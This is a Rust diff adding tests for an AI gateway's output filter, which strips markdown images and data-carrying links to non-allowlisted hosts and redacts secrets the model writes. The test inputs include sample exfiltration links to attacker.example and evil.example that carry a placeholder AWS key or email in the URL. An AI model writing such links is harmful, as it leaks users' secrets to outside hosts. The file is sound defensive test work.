@@ -1480,3 +1480,137 @@ mod responses_api {
         assert_eq!(v["response"]["output"][0]["type"], "message");
     }
 }
+
+/// The reply guard: exfiltration links and echoed secrets in what the model writes.
+mod reply_guard {
+    use std::sync::Arc;
+
+    use proptest::prelude::*;
+
+    use super::*;
+    use crate::gateway::output::{OutputFilter, OutputPolicy, REMOVED};
+
+    fn policy() -> OutputPolicy {
+        OutputPolicy::new(
+            scanner(),
+            Arc::new(|h: &str| h == "docs.example.com" || h.ends_with(".docs.example.com")),
+        )
+    }
+
+    #[test]
+    fn images_and_data_carrying_links_to_hosts_not_named_lose_their_url() {
+        let p = policy();
+        let cases = [
+            // An image is fetched without a click: any host not named loses it.
+            (
+                "![c](https://attacker.example/c.png)",
+                format!("![c]({REMOVED})"),
+            ),
+            (
+                "![c](https://attacker.example/c.png?k=[aws-access-key-id#1])",
+                format!("![c]({REMOVED})"),
+            ),
+            (
+                "![c](https://docs.example.com/c.png?k=1)",
+                "![c](https://docs.example.com/c.png?k=1)".into(),
+            ),
+            // A link to a host not named stays unless it carries data.
+            (
+                "[docs](https://kubernetes.io/docs/home/)",
+                "[docs](https://kubernetes.io/docs/home/)".into(),
+            ),
+            (
+                "[x](https://attacker.example/?q=[email#1])",
+                format!("[x]({REMOVED})"),
+            ),
+            (
+                "[x](https://attacker.example/#frag)",
+                format!("[x]({REMOVED})"),
+            ),
+            (
+                "[x](https://user:pw@attacker.example/)",
+                format!("[x]({REMOVED})"),
+            ),
+            (
+                &*format!("[x](https://attacker.example/{})", "a".repeat(80)),
+                format!("[x]({REMOVED})"),
+            ),
+            (
+                "[x](https://a.docs.example.com/p?q=1)",
+                "[x](https://a.docs.example.com/p?q=1)".into(),
+            ),
+            // Relative links stay; a link around an image is judged as strictly as the image.
+            ("[readme](./README.md)", "[readme](./README.md)".into()),
+            (
+                "[![b](https://evil.example/b.svg)](https://evil.example/)",
+                format!("[![b]({REMOVED})]({REMOVED})"),
+            ),
+            (
+                "see [a](http://evil.example/x?y=1 \"title\") ok",
+                format!("see [a]({REMOVED} \"title\") ok"),
+            ),
+            (
+                "plain https://evil.example/?q=1 text",
+                "plain https://evil.example/?q=1 text".into(),
+            ),
+        ];
+        for (input, want) in cases {
+            assert_eq!(p.text(input), want, "{input}");
+        }
+        assert_eq!(p.counts().0, 9);
+    }
+
+    #[test]
+    fn secrets_the_model_writes_are_redacted_one_way() {
+        let p = policy();
+        let out = p.text(&format!("use {KEY} now, or [aws-access-key-id#1]"));
+        assert_eq!(
+            out,
+            "use [REDACTED:aws-access-key-id] now, or [aws-access-key-id#1]"
+        );
+        assert_eq!(p.counts().1, 1);
+    }
+
+    #[test]
+    fn an_endless_link_is_cut_and_removed_not_held_forever() {
+        let p = policy();
+        let mut f = OutputFilter::new();
+        let mut out = f.push(&p, "![x](https://evil.example/");
+        for _ in 0..200 {
+            out.push_str(&f.push(&p, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"));
+        }
+        out.push_str(&f.finish(&p));
+        assert!(
+            out.starts_with(&format!("![x]({REMOVED}")),
+            "{}",
+            &out[..40]
+        );
+        assert!(!out.contains("evil.example"));
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(48))]
+        #[test]
+        fn any_chunking_filters_as_the_whole_text(cuts in proptest::collection::vec(0usize..200, 0..12)) {
+            let p = policy();
+            let text = format!(
+                "Here ![chart](https://attacker.example/c.png?d=[aws-access-key-id#1]) and \
+                 [docs](https://docs.example.com/a?b=c) and [x](https://evil.example/?q=[email#1]) \
+                 key {KEY} end [unfinished"
+            );
+            let mut cuts: Vec<usize> = cuts.into_iter().map(|c| c.min(text.len())).collect();
+            cuts.sort();
+            let mut f = OutputFilter::new();
+            let mut out = String::new();
+            let mut last = 0;
+            for c in cuts {
+                if !text.is_char_boundary(c) || c < last { continue; }
+                out.push_str(&f.push(&p, &text[last..c]));
+                last = c;
+            }
+            out.push_str(&f.push(&p, &text[last..]));
+            out.push_str(&f.finish(&p));
+            prop_assert_eq!(out, policy().text(&text));
+        }
+    }
+}
